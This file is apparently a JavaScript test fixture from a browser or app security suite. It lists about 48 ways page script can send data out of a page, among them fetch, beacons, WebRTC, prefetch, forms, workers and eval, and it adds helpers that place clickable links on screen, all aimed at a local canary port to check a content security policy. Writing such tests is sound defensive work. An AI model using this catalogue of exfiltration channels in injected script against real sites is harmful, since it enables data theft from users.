// Forty-eight ways for a script to send a word out of a page. Packed into the frame of a test build, as a
// script the policy allows: what it can do, an attacker inside the app could do.
//
// `leak(way, port)` tries one way to reach the canary on that port of this machine; `offer(link, port)`
// puts a link to it where a person can click.
(() => {
  const make = (name, attributes, parent = document.body) => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    parent.append(element);
    return element;
  };
  const head = (attributes) => make('link', attributes, document.head);
  const anchor = (attributes) => make('a', attributes).click();
  const post = (attributes) => make('form', { method: 'post', ...attributes }).submit();
  const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
  const worker = (text) => new Worker(blob(text, 'text/javascript'));
  const drawing = (name, attributes) => {
    const element = document.createElementNS('http://www.w3.org/2000/svg', name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    return element;
  };

  const ways = {
    fetch: (to) => fetch(to.http, { mode: 'no-cors' }),
    fetch_keepalive: (to) => fetch(to.http, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }),
    xhr: (to) => { const call = new XMLHttpRequest(); call.open('GET', to.http); call.send(); },
    beacon: (to) => navigator.sendBeacon(to.http, 'x'),
    websocket: (to) => new WebSocket(to.websocket),
    eventsource: (to) => new EventSource(to.http),
    webtransport: (to) => new WebTransport(to.http.replace('http:', 'https:')),
    webrtc: async (to) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: to.stun }] });
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
    },

    image: (to) => { new Image().src = to.http; },
    style_property: (to) => { document.body.style.backgroundImage = `url(${to.http})`; },
    style_element: (to) => { make('style', {}).textContent = `body{background:url(${to.http})}`; },
    style_link: (to) => head({ rel: 'stylesheet', href: to.http }),
    font: (to) => { const face = new FontFace('x', `url(${to.http})`); document.fonts.add(face); return face.load(); },
    script: (to) => make('script', { src: to.http }),
    import: (to) => import(to.http),
    iframe: (to) => make('iframe', { src: to.http }),
    object: (to) => make('object', { data: to.http }),
    embed: (to) => make('embed', { src: to.http }),
    video: (to) => make('video', { src: to.http, autoplay: '' }).load(),
    svg_image: (to) => {
      const picture = drawing('svg', {});
      picture.append(drawing('image', { href: to.http }), drawing('use', { href: `${to.http}#x` }));
      document.body.append(picture);
    },

    prefetch: (to) => head({ rel: 'prefetch', href: to.http }),
    preload: (to) => head({ rel: 'preload', as: 'image', href: to.http }),
    modulepreload: (to) => head({ rel: 'modulepreload', href: to.http }),
    preconnect: (to) => head({ rel: 'preconnect', href: to.http }),
    dns_prefetch: (to) => head({ rel: 'dns-prefetch', href: `http://${to.name}` }),
    icon: (to) => head({ rel: 'icon', href: to.http }),
    manifest: (to) => head({ rel: 'manifest', href: to.http }),
    speculation: (to) => {
      const rules = { prefetch: [{ source: 'list', urls: [to.http], eagerness: 'immediate' }] };
      const script = document.createElement('script');
      script.type = 'speculationrules';
      script.textContent = JSON.stringify(rules);
      document.head.append(script);
    },

    form: (to) => post({ action: to.http }),
    form_new_tab: (to) => post({ action: to.http, target: '_blank' }),
    location: (to) => { location.href = to.http; },
    top_location: (to) => { top.location.href = to.http; },
    link: (to) => anchor({ href: to.http }),
    link_new_tab: (to) => anchor({ href: to.http, target: '_blank', rel: 'noopener' }),
    link_ping: (to) => anchor({ href: '#x', ping: to.http }),
    link_download: (to) => anchor({ href: to.http, download: 'x.csv' }),
    link_svg: (to) => {
      const link = drawing('a', { href: to.http });
      const picture = drawing('svg', {});
      picture.append(link);
      document.body.append(picture);
      link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
    },
    window_open: (to) => window.open(to.http),
    refresh: (to) => make('meta', { 'http-equiv': 'refresh', content: `0;url=${to.http}` }, document.head),

    worker_fetch: (to) => worker(`fetch(${JSON.stringify(to.http)}, { mode: 'no-cors' })`),
    worker_import: (to) => worker(`importScripts(${JSON.stringify(to.http)})`),
    worker_address: (to) => new Worker(to.http),
    service_worker: (to) => navigator.serviceWorker.register(to.http),

    blank_iframe: (to) => make('iframe', {}).contentWindow.fetch(to.http, { mode: 'no-cors' }),
    srcdoc_iframe: (to) => make('iframe', { srcdoc: `<img src="${to.http}">` }),
    blob_iframe: (to) => make('iframe', { src: blob(`<img src="${to.http}">`, 'text/html') }),
    eval: (to) => (0, eval)(`new Image().src = ${JSON.stringify(to.http)}`),
    inline_handler: (to) => make('img', { src: 'data:,', onerror: `new Image().src = '${to.http}'` }),
  };

  const say = (name, properties) => Object.assign(document.createElement(name), { textContent: 'go', ...properties });
  const button = (onclick) => say('button', { onclick });
  const hold = (link) => {
    for (const key of ['ctrlKey', 'shiftKey', 'metaKey']) {
      link.dispatchEvent(new MouseEvent('click', { [key]: true, cancelable: true }));
    }
  };
  const links = {
    link: (to) => say('a', { href: to }),
    new_tab: (to) => say('a', { href: to, target: '_blank' }),
    whole_window: (to) => say('a', { href: to, target: '_top' }),
    download: (to) => say('a', { href: to, download: 'x' }),
    ping: (to) => say('a', { href: '#x', ping: to }),
    drawn: (to) => {
      const picture = drawing('svg', { width: 80, height: 80 });
      const link = drawing('a', { href: to, tabindex: 0 });
      link.append(drawing('rect', { width: 80, height: 80 }));
      picture.append(link);
      return picture;
    },
    formula: (to) => {
      const space = 'http://www.w3.org/1998/Math/MathML';
      const formula = document.createElementNS(space, 'math');
      const text = document.createElementNS(space, 'mtext');
      formula.setAttribute('href', to);
      text.textContent = 'go there';
      formula.append(text);
      return formula;
    },
    shadowed: (to) => {
      const host = document.createElement('div');
      host.attachShadow({ mode: 'closed' }).append(say('a', { href: to }));
      return host;
    },
    form_button: (to) => {
      const form = say('form', { action: to });
      form.append(button(null));
      return form;
    },
    location_button: (to) => button(() => { location.href = to; }),
    top_button: (to) => button(() => { top.location.href = to; }),
    window_button: (to) => button(() => window.open(to)),
    loose_link_button: (to) => button(() => hold(say('a', { href: to }))),
    other_document_button: (to) => button(() => {
      const other = document.implementation.createHTMLDocument('');
      hold(other.body.appendChild(other.importNode(say('a', { href: to }))));
    }),
    click_button: (to) => button(() => say('a', { href: to, target: '_blank' }).click()),
  };

  globalThis.ways = Object.keys(ways);
  // In a task of its own, so that no privilege of the test's reaches it.
  globalThis.leak = (way, port) => setTimeout(async () => {
    const http = `http://127.0.0.1:${port}/${way}`;
    const to = { http, websocket: http.replace('http', 'ws'), stun: `stun:127.0.0.1:${port}`,
      name: `${way.replace('_', '-')}.canary.test` };
    try {
      await ways[way](to);
    } catch (error) {
      globalThis.refused = String(error);
    }
  });

  globalThis.links = Object.keys(links);
  // Puts a link where a person's click will meet it, and the keyboard's focus on it.
  globalThis.offer = (name, port) => {
    const link = links[name](`http://127.0.0.1:${port}/${name}`);
    const holder = document.createElement('div');
    holder.id = 'offer';
    holder.style.cssText = 'position:fixed;top:0;left:0;z-index:99999;background:white;font-size:40px;display:inline-block';
    holder.append(link);
    document.body.append(holder);
    (link.shadowRoot ?? holder).querySelector('a, button')?.focus();
  };
})();
